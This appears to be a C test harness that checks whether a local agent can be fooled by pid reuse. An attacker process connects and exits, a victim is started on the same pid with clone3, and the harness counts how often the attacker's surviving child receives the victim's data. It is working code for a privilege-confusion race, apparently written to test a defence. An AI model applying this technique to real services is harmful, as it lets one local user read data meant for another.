/* T-01: an attacker connects, hands its connection to a child and exits; a victim is started on the very same pid.
 *   pidreuse SOCKET REQUEST ROUNDS ATTACKER_UID VICTIM_UID AGENT_PID NEEDLE
 * With AGENT_PID the agent is stopped from before the connect until the victim lives; with 0 it is a free race.
 * Prints "rounds N reused N wrong N silent N": wrong = the holder heard NEEDLE, silent = it heard neither an answer nor an end. */
#include "rig.h"
#include <linux/sched.h>
#include <sys/syscall.h>

static char request[65536], answer[1 << 20];

static pid_t start_on(pid_t pid) {
    pid_t wanted[1] = {pid};
    struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (unsigned long)wanted, .set_tid_size = 1};
    return (pid_t)syscall(SYS_clone3, &args, sizeof args);
}

int main(int argc, char **argv) {
    if (argc != 8) { errno = EINVAL; die("usage"); }
    size_t length = load(argv[2], request);
    int rounds = atoi(argv[3]), reused = 0, wrong = 0, silent = 0;
    uid_t attacker = (uid_t)atoi(argv[4]), victim = (uid_t)atoi(argv[5]);
    pid_t agent = atoi(argv[6]);
    if (prctl(PR_SET_CHILD_SUBREAPER, 1)) die("subreaper");
    for (int round = 0; round < rounds; round++) {
        int heard[2];
        if (pipe(heard)) die("pipe");
        if (agent) {
            stop_process(agent);
        }
        pid_t first = fork();
        if (first < 0) die("fork");
        if (!first) {
            close(heard[0]);
            become(attacker);
            int fd = dial(argv[1]);
            say(fd, request, length);
            pid_t holder = fork();
            if (holder < 0) die("fork");
            if (holder) _exit(0);
            int ended;
            /* Ten seconds is for ever: the agent is to end the connection long before. */
            size_t n = hear(fd, answer, sizeof answer, now_ms() + 10000, argv[7], &ended);
            char result = memmem(answer, n, argv[7], strlen(argv[7])) ? 'w' : ended ? 'e' : 's';
            if (write(heard[1], &result, 1) != 1) _exit(9);
            _exit(0);
        }
        close(heard[1]);
        if (waitpid(first, NULL, 0) != first) die("wait for the attacker");
        pid_t own = getpid(), second = start_on(first);
        if (second == 0) {
            become(victim);
            end_with(own);
            for (;;) pause();
        }
        if (second == first) reused++;
        else if (second > 0) { errno = EINVAL; die("another pid"); }
        else if (errno != EEXIST) die("clone3");
        if (agent && kill(agent, SIGCONT)) die("continue the agent");
        char result = 's';
        if (read(heard[0], &result, 1) != 1) die("the holder said nothing");
        close(heard[0]);
        wrong += result == 'w';
        silent += result == 's';
        if (second > 0) kill(second, SIGKILL);
        while (waitpid(-1, NULL, 0) > 0) {}
    }
    printf("rounds %d reused %d wrong %d silent %d\n", rounds, reused, wrong, silent);
    return 0;
}
